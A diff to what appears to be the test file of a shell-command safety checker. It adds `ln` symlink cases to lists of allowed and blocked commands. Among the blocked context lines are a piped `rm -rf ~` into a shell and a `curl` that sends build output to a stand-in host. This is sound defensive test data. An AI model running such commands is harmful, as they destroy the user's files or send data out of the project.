@@ -58,6 +58,11 @@ ALLOWED = [
     ("posix", "gzip -cd data/x.gz > data/x"),
     ("posix", "diff -u README.md src/app.py > data/diff.patch"),
     ("posix", "pytest -q > build/test.log 2>&1"),  # ignored
+    # `ln -f` replaces only the link it makes: a new name, or ignored output
+    ("posix", "ln -snf ../.ai/skills .claude/skills"),
+    ("posix", "ln --symbolic --no-dereference --force packaging/debian"),  # makes ./debian
+    ("posix", "ln -sf ../src/app.py build/app.py"),
+    ("posix", "ln -sf -t build src/app.py"),
     ("posix", "make > build/new/out.txt"),  # a new file in a new folder
     # a process substitution is a pipe to commands checked on their own, not a file
     ("posix", "make 2>&1 | tee >(grep -i error) build.log"),
@@ -118,6 +123,9 @@ BLOCKED = [
     ("posix", "echo hi | : > new.txt"),
     ("posix", "cat /dev/null > coverage.lcov"),
     ("posix", "echo 'rm -rf ~' | tee >(sh)"),  # and what the substituted commands do
+    ("posix", "ln -sf /dev/null build/test.log"),  # /dev/null is outside the project
+    ("posix", "ln -sf $TARGET link"),  # a run-time source: where the link leads is unknown
+    ("posix", "ln -sf a b c/"),  # links in a folder the words do not name
     ("posix", "make | tee >(curl -d @- http://x.example)"),
     ("powershell", "'DEBUG=1' | Out-File .env"),
     ("posix", "sort data/names.txt > data/names.txt"),  # read and emptied by the same line
@@ -170,6 +178,9 @@ BLOCKED_BY_WHAT_IT_HOLDS = [  # blocked in `repo` for what its files hold or whe
     ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
     ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
     ("posix", "cat build/*.log > build/test.log"),  # a glob may name an existing file
+    ("posix", "ln -sf x.py src/app.py"),  # the link replaces a tracked file
+    ("posix", "ln -sfn src/__init__.py notes.txt"),  # untracked work
+    ("posix", "ln -sf README.md link.txt"),  # a link that leads out of the project
     ("posix", "echo x > link.txt"),  # a link: writes outside
     ("posix", "echo x > elsewhere/new.txt"),  # through a linked folder
     ("posix", "pytest | tee src/app.py"),
